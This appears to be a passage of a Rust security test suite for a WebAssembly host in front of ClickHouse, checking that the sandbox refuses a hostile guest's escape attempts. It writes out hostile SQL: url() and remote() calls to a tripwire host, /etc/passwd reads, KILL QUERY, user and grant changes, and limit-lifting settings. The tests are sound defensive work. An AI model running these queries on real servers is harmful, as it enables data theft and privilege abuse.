//! The sandbox as a security boundary: a hostile route component (the test
//! guest's `/sql` runs whatever the test sends) tries each way out that
//! ClickHouse offers, against a real server, and every one is closed.

mod common;

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use common::{ClickHouse, HostBuilder, Reply, Wasmhouse, get, guests};

/// The hostile guest on several routes with different guard-rails.
fn hostile_routes(clickhouse: &ClickHouse) -> (Wasmhouse, common::Manifest) {
    let manifest = common::Manifest::with_hostile_guest(
        r#"
[[route]]
name = "relaxed"
prefix = "/relaxed"
component = "{guest}"
readonly = "relaxed"

[[route]]
name = "opted-in"
prefix = "/opted-in"
component = "{guest}"
readonly = "relaxed"
allowed_functions = ["url"]

[[route]]
name = "writer"
prefix = "/writer"
component = "{guest}"
readonly = false

[[route]]
name = "limited"
prefix = "/limited"
component = "{guest}"
max_execution_time = "500ms"
max_rows_to_read = 1000
max_threads = 1

[[route]]
name = "small-memory"
prefix = "/small-memory"
component = "{guest}"
max_memory_usage = "16MiB"

[[route]]
name = "strict"
prefix = "/"
component = "{guest}"
"#,
    );
    let host = HostBuilder::new(clickhouse)
        .args(&["--manifest", manifest.path()])
        .start_in_process();
    (host, manifest)
}

/// Run `sql` through the guest's `/sql` route under `prefix`, with extra
/// query parameters (`param.x`, `setting.x`, `format`).
async fn sql(host: &Wasmhouse, prefix: &str, sql: &str, extra: &[(&str, &str)]) -> Reply {
    let mut pairs = vec![("q", sql)];
    pairs.extend_from_slice(extra);
    let url =
        reqwest::Url::parse_with_params(&host.url(&format!("{prefix}/sql")), &pairs).expect("URL");
    get(url.as_str()).await
}

/// Assert the guest got the WIT `refused` error (403 through the SDK).
fn assert_refused(reply: &Reply, what: &str) {
    assert_eq!(reply.status, 403, "{what}: {}", reply.text);
    assert_eq!(reply.json["kind"], "refused", "{what}: {}", reply.text);
}

/// An HTTP listener the test owns: counts every connection made to it.
struct Tripwire {
    addr: SocketAddr,
    connections: Arc<AtomicUsize>,
}

impl Tripwire {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("tripwire listener");
        let addr = listener.local_addr().expect("tripwire address");
        let connections = Arc::new(AtomicUsize::new(0));
        let counter = connections.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                counter.fetch_add(1, Ordering::SeqCst);
                let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
                let mut buffer = [0u8; 4096];
                let _ = stream.read(&mut buffer);
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nstolen",
                );
            }
        });
        Self { addr, connections }
    }

    fn count(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn url_remote_and_file_never_leave_clickhouse() {
    let clickhouse = ClickHouse::start();
    let (host, _dir) = hostile_routes(&clickhouse);
    let tripwire = Tripwire::start();
    let at = tripwire.addr;
    let attacks = [
        format!("SELECT * FROM url('http://{at}/a', CSV, 'a String')"),
        format!("select * from URL('http://{at}/b', CSV, 'a String')"),
        format!("SELECT * FROM `url`('http://{at}/c', CSV, 'a String')"),
        format!("SELECT * FROM url/* hidden */('http://{at}/d', CSV, 'a String')"),
        format!("SELECT * FROM url\n('http://{at}/e', CSV, 'a String')"),
        format!(
            "SELECT * FROM (SELECT * FROM (SELECT * FROM url('http://{at}/f', CSV, 'a String')))"
        ),
        format!("SELECT 1 // '\n FROM url('http://{at}/g', CSV, 'a String') -- '"),
        format!("SELECT 1 # '\n FROM url('http://{at}/h', CSV, 'a String') -- '"),
        format!("SELECT * FROM remote('{at}', system.one)"),
        format!("SELECT * FROM remoteSecure('{at}', system.one)"),
        format!("SELECT * FROM cluster('{at}', system.one)"),
        format!("SELECT * FROM s3('http://{at}/bucket/key', 'CSV', 'a String')"),
        format!("SELECT * FROM mysql('{at}', 'db', 't', 'u', 'p')"),
        format!("SELECT * FROM hdfs('hdfs://{at}/x', 'CSV', 'a String')"),
        "SELECT * FROM file('passwd', TSV, 'line String')".to_owned(),
        "SELECT file('/etc/passwd')".to_owned(),
        "SELECT * FROM merge('system', '^proc')".to_owned(),
    ];
    for prefix in ["", "/relaxed", "/writer"] {
        for attack in &attacks {
            let reply = sql(&host, prefix, attack, &[]).await;
            assert_refused(&reply, &format!("{prefix} {attack}"));
        }
    }
    let writer_attacks = [
        format!("INSERT INTO FUNCTION url('http://{at}/i', CSV, 'a String') VALUES ('x')"),
        format!("CREATE TABLE leak (a String) ENGINE = URL('http://{at}/j', CSV)"),
        "CREATE TABLE leak (a String) ENGINE = File(TabSeparated)".to_owned(),
        format!(
            "CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(HTTP(url 'http://{at}/k' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)"
        ),
    ];
    for attack in &writer_attacks {
        let reply = sql(&host, "/writer", attack, &[]).await;
        assert_refused(&reply, attack);
    }
    assert_eq!(
        tripwire.count(),
        0,
        "ClickHouse was made to connect to the test's listener"
    );

    // The tripwire works: a route that opts in to url() does reach it.
    let reply = sql(
        &host,
        "/opted-in",
        &format!("SELECT * FROM url('http://{at}/allowed', CSV, 'a String')"),
        &[],
    )
    .await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    assert!(tripwire.count() >= 1, "the opted-in route never connected");
    assert_eq!(get(&host.url("/health")).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn settings_cannot_lift_the_hosts_limits() {
    let clickhouse = ClickHouse::start();
    let (host, _dir) = hostile_routes(&clickhouse);
    for prefix in ["/limited", "/relaxed", "/writer", ""] {
        for attack in [
            "SELECT sleep(2) SETTINGS max_execution_time = 0",
            "SELECT sleep(2) SETTINGS timeout_overflow_mode = 'break'",
            "SELECT sleep(2) settings `max_execution_time` = 0",
            "SELECT (SELECT sleep(2) SETTINGS max_execution_time = 0)",
            "SELECT 1 SETTINGS output_format_json_quote_denormals = 1, readonly = 0",
            "SELECT 1 SETTINGS max_memory_usage = 0",
            "SET max_execution_time = 0",
        ] {
            let reply = sql(&host, prefix, attack, &[]).await;
            assert_refused(&reply, &format!("{prefix}: {attack}"));
        }
        for (name, value) in [
            ("max_execution_time", "0"),
            ("timeout_overflow_mode", "break"),
            ("readonly", "0"),
            ("max_memory_usage", "0"),
            ("max_threads", "64"),
            ("max_rows_to_read", "0"),
            ("max_block_size", "1"),
            ("query_id", "mine"),
            ("replace_running_query", "1"),
        ] {
            let setting = format!("setting.{name}");
            let reply = sql(&host, prefix, "SELECT 1", &[(&setting, value)]).await;
            assert_refused(&reply, &format!("{prefix}: {name}={value}"));
        }
    }
    // A relaxed route may use SETTINGS clauses within the allow-list.
    let allowed = sql(
        &host,
        "/relaxed",
        "SELECT 1 SETTINGS output_format_json_quote_denormals = 1",
        &[],
    )
    .await;
    assert_eq!(allowed.status, 200, "{}", allowed.text);

    // The limit holds: 500 ms is sent as 1 s (18.16 reads whole seconds,
    // and 0.5 would be read as 0, no limit at all), so a 2 s sleep fails
    // (ClickHouse notices when the sleeping block ends).
    let slow = sql(&host, "/limited", "SELECT sleep(2)", &[]).await;
    assert_eq!(slow.status, 504, "{}", slow.text);
    assert_eq!(slow.json["kind"], "timeout", "{}", slow.text);
}

#[tokio::test(flavor = "multi_thread")]
async fn every_query_carries_the_hosts_caps() {
    let clickhouse = ClickHouse::start();
    let (host, _dir) = hostile_routes(&clickhouse);
    let settings = "SELECT name, value FROM system.settings WHERE name IN ('readonly', 'max_execution_time', 'timeout_overflow_mode', 'max_memory_usage', 'max_threads', 'max_rows_to_read', 'read_overflow_mode', 'result_overflow_mode') ORDER BY name";
    let reply = sql(&host, "/limited", settings, &[]).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    let result = reply.json["result"].as_str().expect("result text");
    for expected in [
        "max_execution_time\t1",
        "max_memory_usage\t1073741824",
        "max_rows_to_read\t1000",
        "max_threads\t1",
        "read_overflow_mode\tthrow",
        "readonly\t1",
        "result_overflow_mode\tthrow",
        "timeout_overflow_mode\tthrow",
    ] {
        assert!(result.contains(expected), "{expected:?} not in:\n{result}");
    }
    let relaxed = sql(&host, "/relaxed", settings, &[]).await;
    assert!(
        relaxed.json["result"]
            .as_str()
            .is_some_and(|r| r.contains("readonly\t2")),
        "{}",
        relaxed.text
    );

    let small = sql(&host, "/small-memory", "SELECT 1", &[]).await;
    assert_eq!(small.status, 200, "{}", small.text);
    let hog = sql(
        &host,
        "/small-memory",
        "SELECT length(groupArray(number)) FROM (SELECT number FROM system.numbers LIMIT 10000000)",
        &[],
    )
    .await;
    assert_refused(&hog, "a query over max_memory_usage");
    assert!(
        hog.json["error"]
            .as_str()
            .is_some_and(|e| e.contains("max_memory_usage")),
        "{}",
        hog.text
    );
    let scan = sql(
        &host,
        "/limited",
        "SELECT count() FROM (SELECT number FROM system.numbers LIMIT 100000)",
        &[],
    )
    .await;
    assert_refused(&scan, "a scan over max_rows_to_read");
    assert!(
        scan.json["error"]
            .as_str()
            .is_some_and(|e| e.contains("max_rows_to_read")),
        "{}",
        scan.text
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_cannot_touch_another_requests_query() {
    let clickhouse = ClickHouse::start();
    let (host, _dir) = hostile_routes(&clickhouse);
    let victim_url =
        reqwest::Url::parse_with_params(&host.url("/sql"), &[("q", "SELECT sleep(3) AS victim")])
            .expect("URL");
    let victim = tokio::spawn(async move { get(victim_url.as_str()).await });
    let running = "SELECT query_id FROM system.processes WHERE query LIKE '%AS victim%' AND query NOT LIKE '%system.processes%' FORMAT TabSeparated";
    let deadline = Instant::now() + Duration::from_secs(10);
    let query_id = loop {
        let id = clickhouse.query(running).trim().to_owned();
        if !id.is_empty() {
            break id;
        }
        assert!(
            Instant::now() < deadline,
            "the victim's query never started"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    // Random (after the request id), so it cannot be guessed.
    let random = query_id.rsplit('-').next().unwrap_or_default();
    assert!(
        random.len() == 32 && random.bytes().all(|b| b.is_ascii_hexdigit()),
        "query id {query_id:?} is not random"
    );

    let attacks = [
        "KILL QUERY WHERE query_id LIKE 'wasmhouse-%'".to_owned(),
        "KILL QUERY WHERE 1 SYNC".to_owned(),
        format!("KILL QUERY WHERE query_id = '{query_id}'"),
        "kill query where 1".to_owned(),
        "/* maintenance */ KILL QUERY WHERE 1".to_owned(),
        "(KILL QUERY WHERE 1)".to_owned(),
        "SELECT 1; KILL QUERY WHERE 1".to_owned(),
        "SELECT query_id, query FROM system.processes".to_owned(),
        "SELECT * FROM `system`.`processes`".to_owned(),
        "SELECT * FROM system.query_log".to_owned(),
        "SHOW PROCESSLIST".to_owned(),
    ];
    for prefix in ["", "/relaxed", "/writer"] {
        for attack in &attacks {
            let reply = sql(&host, prefix, attack, &[]).await;
            assert_refused(&reply, &format!("{prefix}: {attack}"));
        }
        // Reusing the victim's id as this query's own is refused too.
        let reply = sql(
            &host,
            prefix,
            "SELECT 1",
            &[("setting.query_id", &query_id)],
        )
        .await;
        assert_refused(&reply, "query_id setting");
    }
    let victim = victim.await.expect("victim request");
    assert_eq!(
        victim.status, 200,
        "the victim's query was hurt: {}",
        victim.text
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn writes_and_administration_are_refused() {
    let clickhouse = ClickHouse::start();
    let (host, _dir) = hostile_routes(&clickhouse);
    let writes = [
        "INSERT INTO t VALUES (1)",
        "CREATE TABLE t (x UInt8) ENGINE = Memory",
        "ALTER TABLE t DELETE WHERE 1",
        "DROP TABLE IF EXISTS t",
        "TRUNCATE TABLE t",
        "RENAME TABLE a TO b",
        "OPTIMIZE TABLE t",
    ];
    let never = [
        "SYSTEM SHUTDOWN",
        "SYSTEM DROP DNS CACHE",
        "USE system",
        "GRANT ALL ON *.* TO default",
        "REVOKE ALL ON *.* FROM default",
        "CREATE USER intruder",
        "ALTER USER default IDENTIFIED BY 'x'",
        "DROP USER default",
        "ATTACH TABLE t",
        "DETACH TABLE system.numbers",
        "CREATE FUNCTION f AS x -> x",
        "SELECT * FROM t INTO OUTFILE 'x'",
    ];
    for prefix in ["", "/relaxed", "/limited"] {
        for attack in writes.iter().chain(&never) {
            let reply = sql(&host, prefix, attack, &[]).await;
            assert_refused(&reply, &format!("{prefix}: {attack}"));
        }
    }
    for attack in &never {
        let reply = sql(&host, "/writer", attack, &[]).await;
        assert_refused(&reply, &format!("writer: {attack}"));
    }
    // The route that allows writes can write.
    let create = sql(
        &host,
        "/writer",
        "CREATE TABLE IF NOT EXISTS written (x UInt8) ENGINE = Memory",
        &[],
    )
    .await;
    assert_eq!(create.status, 200, "{}", create.text);
    assert_eq!(
        clickhouse
            .query("EXISTS TABLE written FORMAT TabSeparated")
            .trim(),
        "1"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_input_never_crashes_the_host() {
    let clickhouse = ClickHouse::start();
    let (host, _dir) = hostile_routes(&clickhouse);
    let deep_type = format!(
        "SELECT {{v:{}String{}}}",
        "Array(".repeat(100_000),
        ")".repeat(100_000)
    );
    let deep_value = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
    let huge_sql = format!("SELECT '{}'", "x".repeat(300 << 10));
    let big_value = "é".repeat(600_000);
    let cases: Vec<(String, Vec<(String, String)>)> = vec![
        (deep_type, vec![("param.v".into(), "[]".into())]),
        (
            "SELECT {v:Array(Array(UInt8))}".into(),
            vec![("param.v".into(), deep_value)],
        ),
        (
            "SELECT {v:DateTime}".into(),
            vec![("param.v".into(), "2024-01-3é 23:59:58".into())],
        ),
        (
            "SELECT {v:DateTime}".into(),
            vec![("param.v".into(), "2024-01-31 23:59:5✓".into())],
        ),
        (
            "SELECT {v:Decimal32(200)}".into(),
            vec![("param.v".into(), "1.5".into())],
        ),
        (
            "SELECT {v:FixedString(18446744073709551615)}".into(),
            vec![("param.v".into(), "x".into())],
        ),
        (
            "SELECT {v:String}".into(),
            vec![("param.v".into(), big_value)],
        ),
        (huge_sql, vec![]),
        (
            "SELECT {✓:String}".into(),
            vec![("param.✓".into(), "x".into())],
        ),
        ("SELECT '✓".into(), vec![]),
        ("SELECT 1 /* ✓".into(), vec![]),
        ("\u{0}SELECT 1".into(), vec![]),
        (
            "SELECT 1".into(),
            vec![
                ("setting.✓".into(), "1".into()),
                ("format".into(), "JSON&readonly=0".into()),
            ],
        ),
        (
            "SELECT 1".into(),
            vec![("format".into(), "✓".repeat(10_000))],
        ),
    ];
    for (query, extra) in &cases {
        let extra: Vec<(&str, &str)> = extra
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let mut pairs = vec![("q", query.as_str())];
        pairs.extend_from_slice(&extra);
        // Big inputs travel in the body-less URL; the guest reads them as
        // query parameters, so keep them within what the host accepts.
        let url = reqwest::Url::parse_with_params(&host.url("/sql"), &pairs).expect("URL");
        let reply = if url.as_str().len() > 60_000 {
            None
        } else {
            Some(get(url.as_str()).await)
        };
        if let Some(reply) = reply {
            assert!(
                (400..600).contains(&reply.status) && reply.json["kind"].is_string(),
                "{}: {} {}",
                common::prefix(query, 80),
                reply.status,
                common::prefix(&reply.text, 300)
            );
        }
        let health = get(&host.url("/health")).await;
        assert_eq!(
            health.status,
            200,
            "the host is down after {}",
            common::prefix(query, 80)
        );
    }

    // Too big for a URL: send the SQL in headers and bodies the host itself
    // must survive (hyper bounds them before any guest runs).
    let addr = host.addr();
    let statuses = tokio::task::spawn_blocking(move || {
        let mut statuses = Vec::new();
        for request in [
            format!("GET /health HTTP/1.1\r\nHost: x\r\nX-Big: {}\r\nConnection: close\r\n\r\n", "a".repeat(1 << 20)).into_bytes(),
            b"GET /health HTTP/1.1\r\nHost: x\r\nX-Bytes: \xff\xfe\xc3\r\nConnection: close\r\n\r\n".to_vec(),
            format!("GET /{} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", "é".repeat(100_000)).into_bytes(),
            b"GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999999\r\nConnection: close\r\n\r\n".to_vec(),
        ] {
            statuses.push(common::raw_status(addr, &request));
        }
        statuses
    })
    .await
    .expect("raw requests");
    for status in &statuses {
        assert!(
            *status == 200 || (400..500).contains(status),
            "raw request answered {status}: {statuses:?}"
        );
    }
    assert_eq!(get(&host.url("/health")).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn host_resources_per_instance_are_bounded() {
    let clickhouse = ClickHouse::start();
    let (host, _dir) = hostile_routes(&clickhouse);
    let open = get(&host.url("/open-results?n=20")).await;
    assert_eq!(open.status, 200, "{}", open.text);
    assert_eq!(open.json["open"], 8, "{}", open.text);
    assert!(
        open.json["refused"]
            .as_str()
            .is_some_and(|r| r.contains("at most 8")),
        "{}",
        open.text
    );
    // Resource handles past the table's capacity trap the instance.
    let fields = get(&host.url("/fields?n=100000")).await;
    assert_eq!(fields.status, 500, "{}", fields.text);
    assert_eq!(fields.json["kind"], "trap", "{}", fields.text);
    // A header set past the size limit traps the instance too.
    let header = get(&host.url("/big-header?kb=1024")).await;
    assert_eq!(header.status, 500, "{}", header.text);
    assert_eq!(header.json["kind"], "trap", "{}", header.text);
    let small = get(&host.url("/big-header?kb=1")).await;
    assert_eq!(small.json["accepted"], true, "{}", small.text);
    // A pooled connection per open result: the pool still serves others.
    assert_eq!(get(&host.url("/many-rows")).await.status, 200);
    assert_eq!(get(&host.url("/health")).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn informational_answers_become_500() {
    let clickhouse = ClickHouse::start();
    let (host, _dir) = hostile_routes(&clickhouse);
    for status in [101, 103] {
        let reply = get(&host.url(&format!("/informational?status={status}"))).await;
        assert_eq!(reply.status, 500, "{status}: {}", reply.text);
        assert_eq!(
            reply.json["kind"], "guest_error",
            "{status}: {}",
            reply.text
        );
    }
    assert_eq!(get(&host.url("/health")).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_admin_token_never_reaches_a_guest() {
    let clickhouse = ClickHouse::start();
    let token = "admin-token-0123456789abcdef";
    let guest = guests::hostile(1);
    let host = HostBuilder::new(&clickhouse)
        .args(&["--component", guest.to_str().expect("UTF-8 path")])
        .env("WASMHOUSE_ADMIN_TOKEN", token)
        .start_in_process();
    let client = common::client();
    let bearer = format!("Bearer {token}");
    // However the path is spelt, an admin path is the admin API's.
    for path in [
        "/admin/components",
        "//admin/components",
        "/./admin/components",
        "/x/../admin/components",
        "/%61dmin/components",
        "/ADMIN/components",
    ] {
        let url = format!("http://{}{path}", host.addr());
        let reply = common::send(client.get(&url).header("authorization", &bearer)).await;
        assert_eq!(reply.status, 200, "{path}: {}", reply.text);
        assert!(
            reply.json["components"].is_array(),
            "{path}: {}",
            reply.text
        );
        let anonymous = common::send(client.get(&url)).await;
        assert_eq!(anonymous.status, 401, "{path}: {}", anonymous.text);
    }
    // Sent to a route, the token is removed before the guest sees the
    // request: whatever the scheme's case, whatever header carries it.
    for (name, value) in [
        ("authorization", bearer.clone()),
        ("authorization", format!("bearer {token}")),
        ("authorization", format!("BEARER  {token}")),
        ("authorization", format!("Basic {token}")),
        ("proxy-authorization", format!("Bearer {token}")),
        ("cookie", format!("session=1; admin={token}")),
        ("x-admin-token", token.to_owned()),
    ] {
        let echoed = common::send(client.get(host.url("/headers")).header(name, &value)).await;
        assert_eq!(echoed.status, 200, "{}", echoed.text);
        assert!(
            !echoed.text.contains(token),
            "the guest saw the token in {name}: {value}: {}",
            echoed.text
        );
    }
    // Lower-case schemes reach the admin API too.
    let lower = common::send(
        client
            .get(format!("http://{}/admin/components", host.addr()))
            .header("authorization", format!("bearer {token}")),
    )
    .await;
    assert_eq!(lower.status, 200, "{}", lower.text);
    let other = common::send(
        client
            .get(host.url("/headers"))
            .header("authorization", "Bearer the-guests-own-token"),
    )
    .await;
    assert!(
        other.text.contains("the-guests-own-token"),
        "other credentials must reach the route: {}",
        other.text
    );
}

/// An API key sent to any route, keyed or not, in any form a client sends
/// credentials in, is removed before the guest sees the request: a route
/// component (another team's, or one that echoes headers) never collects the
/// keys meant for other routes. Other credentials still reach the guest.
#[tokio::test(flavor = "multi_thread")]
async fn api_keys_never_reach_a_guest_on_any_route() {
    const OPS: &str = "ops-key-0123456789abcdef";
    const CI: &str = "ci-key-fedcba9876543210";
    let manifest = common::Manifest::with_hostile_guest(
        r#"
[[route]]
name = "keyed"
prefix = "/keyed"
component = "{guest}"
api_key = true

[[route]]
name = "open"
prefix = "/open"
component = "{guest}"
"#,
    );
    let host = HostBuilder::without_clickhouse()
        .env("WASMHOUSE_MANIFEST", manifest.path())
        .env("WASMHOUSE_API_KEYS", format!("ops={OPS},ci={CI}"))
        .start_in_process();
    let client = common::client();
    use base64::Engine as _;
    let basic = |pair: &str| {
        format!(
            "Basic {}",
            base64::engine::general_purpose::STANDARD.encode(pair)
        )
    };
    let forms: Vec<Vec<(&str, String)>> = vec![
        vec![("x-api-key", OPS.to_owned())],
        vec![("X-Api-Key", format!("  {OPS} "))],
        vec![("authorization", format!("Bearer {OPS}"))],
        vec![("authorization", format!("bearer {OPS}"))],
        vec![("authorization", format!("BEARER\t{OPS}"))],
        vec![("authorization", format!("Token {OPS}"))],
        vec![("authorization", OPS.to_owned())],
        vec![("authorization", basic(&format!("user:{OPS}")))],
        vec![("authorization", basic(&format!("{OPS}:")))],
        vec![("proxy-authorization", format!("Bearer {OPS}"))],
        vec![("x-forwarded-api-key", OPS.to_owned())],
        // Repeated: the first is no key, the second is.
        vec![
            ("x-api-key", "not-a-key".to_owned()),
            ("x-api-key", OPS.to_owned()),
        ],
        vec![
            ("authorization", "Bearer not-a-key".to_owned()),
            ("authorization", format!("Bearer {OPS}")),
        ],
        // The route's own key in one header, another key in another.
        vec![
            ("x-api-key", CI.to_owned()),
            ("authorization", format!("Bearer {OPS}")),
        ],
    ];
    for path in ["/open/headers", "/keyed/headers"] {
        for form in &forms {
            let mut request = client.get(host.url(path));
            for (name, value) in form {
                request = request.header(*name, value);
            }
            // The keyed route admits the request with the CI key.
            if path.starts_with("/keyed") && !form.iter().any(|(_, value)| value == CI) {
                request = request.header("x-api-key", CI);
            }
            let echoed = common::send(request).await;
            // The keyed route reads the first X-API-Key: no key, no guest.
            let refused =
                path.starts_with("/keyed") && form[0].1 == "not-a-key" && form[0].0 == "x-api-key";
            let expected = if refused { 401 } else { 200 };
            assert_eq!(echoed.status, expected, "{path} {form:?}: {}", echoed.text);
            for key in [OPS, CI] {
                assert!(
                    !echoed.text.contains(key),
                    "the guest of {path} saw a key, sent as {form:?}: {}",
                    echoed.text
                );
            }
        }
    }
    // Credentials that are no key of the host reach the open route's guest.
    let other = common::send(
        client
            .get(host.url("/open/headers"))
            .header("authorization", "Bearer the-guests-own-token")
            .header("x-api-key", "the-guests-own-key"),
    )
    .await;
    assert!(
        other.text.contains("the-guests-own-token") && other.text.contains("the-guests-own-key"),
        "other credentials must reach the route: {}",
        other.text
    );
}

/// A marker no earlier round (or run) wrote: the clock, the round in the
/// top byte, never zero.
fn fresh_marker(round: u64) -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .expect("clock")
        .as_nanos() as u64
        ^ (round << 56)
        | 1
}

/// Instance memory is fresh: a marker one request writes (into a static of
/// the component, and all over 8 MiB of memory it grew) is never seen by a
/// later request, in whichever memory slot it lands, with either compiler.
/// Four requests at once, each holding its instance a while, take four slots;
/// four looking requests follow; six rounds with a new marker each.
#[tokio::test(flavor = "multi_thread")]
async fn no_instance_sees_an_earlier_requests_memory() {
    let guest = guests::hostile(1);
    for compilation in ["optimized", "baseline"] {
        let host = HostBuilder::without_clickhouse()
            .args(&["--component", guest.to_str().expect("UTF-8 path")])
            .args(&["--compilation", compilation, "--max-instances", "4"])
            .start();
        // The look finds a marker where there is one (its own request's).
        let control = get(&host.url("/mark-then-look?marker=12345")).await;
        assert_eq!(
            (
                control.json["static"].as_bool(),
                control.json["memory"].as_bool()
            ),
            (Some(true), Some(true)),
            "{compilation}: the look does not see its own marker: {}",
            control.text
        );
        for round in 0..6u64 {
            let marker = fresh_marker(round);
            let marks: Vec<_> = (0..4)
                .map(|_| {
                    let url = host.url(&format!("/mark?marker={marker}&ms=150"));
                    tokio::spawn(async move { get(&url).await })
                })
                .collect();
            for mark in marks {
                let reply = mark.await.expect("mark");
                assert_eq!(reply.status, 200, "{compilation}: {}", reply.text);
            }
            let looks: Vec<_> = (0..4)
                .map(|_| {
                    let url = host.url(&format!("/look?marker={marker}"));
                    tokio::spawn(async move { get(&url).await })
                })
                .collect();
            for look in looks {
                let reply = look.await.expect("look");
                assert_eq!(reply.status, 200, "{compilation}: {}", reply.text);
                assert_eq!(
                    (
                        reply.json["static"].as_bool(),
                        reply.json["memory"].as_bool()
                    ),
                    (Some(false), Some(false)),
                    "{compilation}, round {round}: an instance saw the marker of an earlier \
                     request: {}",
                    reply.text
                );
                assert!(
                    reply.json["memory_bytes"].as_u64() > Some(8 << 20),
                    "the look covered no grown memory: {}",
                    reply.text
                );
            }
        }
    }
}

/// Instance memory is fresh even when a request's pages went to swap while
/// it ran: the marker `/mark` writes is pushed out to a swap file of the
/// test's own (`process_madvise(MADV_PAGEOUT)` on every mapping of the host
/// process) while the instance still holds it, and the next instance in
/// the one slot looks for it. A reset that restores only the pages it finds
/// resident (Wasmtime's pagemap scan) leaves a swapped-out page as the
/// earlier request wrote it; the host must not use one where pages can be
/// swapped out. Needs root and a filesystem that takes a swap file: where
/// the machine does not allow it, the test says why and checks nothing.
#[tokio::test(flavor = "multi_thread")]
async fn no_instance_sees_an_earlier_requests_memory_back_from_swap() {
    let Some(_swap) = common::swap::SwapFile::try_enable(256 << 20) else {
        return;
    };
    let guest = guests::hostile(1);
    for compilation in ["optimized", "baseline"] {
        let host = HostBuilder::without_clickhouse()
            .args(&["--component", guest.to_str().expect("UTF-8 path")])
            .args(&["--compilation", compilation, "--max-instances", "1"])
            .start();
        for round in 0..3u64 {
            let marker = fresh_marker(round);
            let url = host.url(&format!("/mark?marker={marker}&ms=1500"));
            let mark = tokio::spawn(async move { get(&url).await });
            // While the instance holds its marked pages, push them out.
            tokio::time::sleep(Duration::from_millis(500)).await;
            let before = common::swap::swapped_bytes(host.pid());
            let paged_out = common::swap::page_out(host.pid());
            let after = common::swap::swapped_bytes(host.pid());
            let reply = mark.await.expect("mark");
            assert_eq!(reply.status, 200, "{compilation}: {}", reply.text);
            assert!(
                after >= before + (4 << 20),
                "{compilation}: paging out {paged_out} bytes of mappings moved {} bytes to swap: \
                 the test would check nothing",
                after.saturating_sub(before)
            );
            let look = get(&host.url(&format!("/look?marker={marker}"))).await;
            assert_eq!(look.status, 200, "{compilation}: {}", look.text);
            assert_eq!(
                (look.json["static"].as_bool(), look.json["memory"].as_bool()),
                (Some(false), Some(false)),
                "{compilation}, round {round}: an instance saw the marker of an earlier request \
                 from swap: {}",
                look.text
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn error_bodies_carry_no_internals() {
    let guest = guests::hostile(1);
    let host = HostBuilder::without_clickhouse()
        .args(&["--component", guest.to_str().expect("UTF-8 path")])
        .start();
    let reply = get(&host.url("/sql?q=SELECT%201")).await;
    assert_eq!(reply.status, 503, "{}", reply.text);
    assert_eq!(reply.json["kind"], "clickhouse_unavailable");
    for internal in [
        "query_id",
        "http://",
        "readonly",
        "max_memory_usage",
        "127.0.0.1:9",
    ] {
        assert!(
            !reply.text.contains(internal),
            "the error shows {internal:?}: {}",
            reply.text
        );
    }
    // The details are in the host's log, for the operator.
    host.wait_for_log("ClickHouse request failed", Duration::from_secs(5))
        .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn dotenv_is_read_from_the_working_directory_only() {
    let clickhouse = ClickHouse::start();
    let parent = tempfile::tempdir().expect("temp dir");
    std::fs::write(
        parent.path().join(".env"),
        format!(
            "CLICKHOUSE_HOST=127.0.0.1\nCLICKHOUSE_PORT={}\n",
            clickhouse.http_port()
        ),
    )
    .expect("write .env");
    let child = parent.path().join("service");
    std::fs::create_dir(&child).expect("child directory");
    // In the child directory the parent's .env must not apply: the host
    // falls back to the default port, where this test's ClickHouse is not.
    let host = HostBuilder::without_clickhouse()
        .env_remove("CLICKHOUSE_HOST")
        .env_remove("CLICKHOUSE_PORT")
        .current_dir(&child)
        .start();
    let status = get(&host.url("/clickhouse-status")).await;
    assert_ne!(
        status.json["port"],
        clickhouse.http_port(),
        "the parent directory's .env was read: {}",
        status.text
    );
    // In the parent directory it applies.
    let host = HostBuilder::without_clickhouse()
        .env_remove("CLICKHOUSE_HOST")
        .env_remove("CLICKHOUSE_PORT")
        .current_dir(parent.path())
        .start();
    let status = get(&host.url("/clickhouse-status")).await;
    assert_eq!(status.status, 200, "{}", status.text);
    assert_eq!(status.json["port"], clickhouse.http_port());
}

/// The password of the dedicated account in [`dedicated_clickhouse`].
const DEDICATED_PASSWORD: &str = "a long test password";

fn sha256_hex(text: &str) -> String {
    use sha2::Digest as _;
    sha2::Sha256::digest(text.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A server set up as docs/security.md, "A dedicated ClickHouse user", says,
/// with deploy/clickhouse's files as they are: the `wasmhouse` account
/// (database `analytics` only), `default` behind a password, no test
/// clusters; `analytics.events` holds 3 rows and `secret.keys` a secret.
fn dedicated_clickhouse() -> (ClickHouse, &'static str) {
    let default_password = "the administrator's password";
    let users = include_str!("../deploy/clickhouse/wasmhouse-user.xml")
        .replace("SHA256_OF_THE_PASSWORD", &sha256_hex(DEDICATED_PASSWORD))
        .replace(
            "SHA256_OF_THE_DEFAULT_PASSWORD",
